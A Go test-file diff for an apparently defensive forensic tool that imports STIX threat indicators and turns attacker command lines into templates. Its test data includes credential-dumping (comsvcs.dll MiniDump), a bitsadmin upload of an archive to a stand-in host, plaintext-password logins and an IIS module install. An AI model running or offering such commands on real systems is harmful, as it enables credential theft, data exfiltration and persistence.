@@ -6,8 +6,10 @@ import (
 	"crypto/ed25519"
 	"encoding/json"
 	"errors"
+	"fmt"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 	"testing/fstest"
@@ -441,6 +443,37 @@ func TestImportText(t *testing.T) {
 	}
 }
 
+// TestImportTellsWhatIsMeantTogether: one value of a conjunction is not what the report describes.
+func TestImportTellsWhatIsMeantTogether(t *testing.T) {
+	pattern := func(id int, p string) string {
+		return fmt.Sprintf(`{"type":"indicator","spec_version":"2.1","id":"indicator--00000000-0000-4000-8000-%012d","created":"2026-01-01T00:00:00.000Z","modified":"2026-01-01T00:00:00.000Z","pattern_type":"stix","valid_from":"2026-01-01T00:00:00Z","pattern":%q}`, id, p)
+	}
+	f, _, err := Import("bundle.json", strings.NewReader(`{"type":"bundle","id":"bundle--00000000-0000-4000-8000-000000000000","objects":[`+strings.Join([]string{
+		pattern(1, "[domain-name:value = 'one.bad-updates.org'] FOLLOWEDBY [ipv4-addr:value = '203.0.113.9']"),
+		pattern(2, "[file:hashes.'SHA-256' = '"+hash+"' AND file:name = 'sync-helper-x.exe']"),
+		pattern(3, "[domain-name:value = 'two.bad-updates.org'] AND [url:value = 'http://one.bad-updates.org/gate.php']"),
+		pattern(4, "[domain-name:value = 'two.bad-updates.org']"),
+	}, ",")+`]}`), Victim{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := map[string]bool{"one.bad-updates.org": true, "203.0.113.9": true, hash: false, "sync-helper-x.exe": true, "two.bad-updates.org": false, "http://one.bad-updates.org/gate.php": true}
+	if len(f.Items) != len(want) {
+		t.Errorf("%d items", len(f.Items))
+	}
+	for _, round := range []string{"imported", "counted"} {
+		for _, it := range f.Items {
+			if together := slices.Contains(it.Reasons, whyTogether); together != want[it.Value] || together && tierRank[it.Tier] < tierRank[Supporting] {
+				t.Errorf("%s: %s %s, %q", round, it.Value, it.Tier, it.Reasons)
+			}
+		}
+		for i := range f.Items { // as if it were rare: it must not rise
+			f.Items[i].Specificity.Hosts = 5000
+		}
+		f.Rate(nil)
+	}
+}
+
 // TestImportRealReports reads published reports.
 func TestImportRealReports(t *testing.T) {
 	for _, pattern := range []string{"mandiant-openioc/*/*.ioc", "mvt-indicators/*/*.stix2", "amnesty/*/*.stix2", "volexity/*/*/*/*.csv", "eset/*/*.json"} {
@@ -589,12 +622,17 @@ func TestCallsSeesThroughAShell(t *testing.T) {
 // TestTemplatesKeepHabitsAndNobodysNames: what a switch says is an account is the victim's, though no trail knows the account.
 func TestTemplatesKeepHabitsAndNobodysNames(t *testing.T) {
 	for line, want := range map[string]string{
-		`C:\x\plink.exe -ssh -batch -l netops 10.16.26.1 "show running-config"`: `*plink.exe* -ssh -batch -l * *.1 *`,
-		`curl -u backup:Summer26 -k -T a.rar`:                                   `*curl* -u * -k -T *.rar`,
-		`psql -U carlos -d reservations -c "select 1"`:                          `*psql* -U * -d reservations -c *`,
-		`runas /user CORP\anna notepad.exe`:                                     `*runas* /user * notepad.exe`,
-		`tool.exe -l -v --dump all`:                                             `*tool.exe* -l -v --dump all`,
-		`rundll32.exe C:\w\comsvcs.dll MiniDump 624 C:\x.dmp full`:              `*rundll32.exe* *.dll MiniDump * *.dmp full`,
+		`C:\x\plink.exe -ssh -batch -l netops 10.16.26.1 "show running-config"`:   `*plink.exe* -ssh -batch -l *`,
+		`C:\P\dz.exe a -v200m -hpQDabi9 D:\s\x.part1.rar D:\s`:                    `*dz.exe* a -* -hp* *.rar *`,
+		`sshpass -p xdira ssh dbadm@10.101.1.41`:                                  `*sshpass* -p * ssh *`,
+		`mysqldump -uroot -pHunter2 resv pax -r /tmp/x.sql`:                       `*mysqldump* -u* -p* resv pax -r *.sql`,
+		`bitsadmin /transfer Vumujob /upload /priority high https://a/b C:\c.rar`: `*bitsadmin* /transfer * /upload /priority high * *.rar`,
+		`appcmd.exe install module /name:TafudiFilter /image:C:\x\fl.dll`:         `*appcmd.exe* install module /name:* /image:*.dll`,
+		`curl -u backup:Summer26 -k -T a.rar`:                                     `*curl* -u * -k -T *.rar`,
+		`psql -U carlos -d reservations -c "select 1"`:                            `*psql* -U * -d reservations -c *`,
+		`runas /user CORP\anna notepad.exe`:                                       `*runas* /user * notepad.exe`,
+		`tool.exe -l -v --dump all`:                                               `*tool.exe* -l -v --dump all`,
+		`rundll32.exe C:\w\comsvcs.dll MiniDump 624 C:\x.dmp full`:                `*rundll32.exe* *.dll MiniDump * *.dmp full`,
 	} {
 		if got := Template(line, nil); got != want {
 			t.Errorf("%s: %q, want %q", line, got, want)
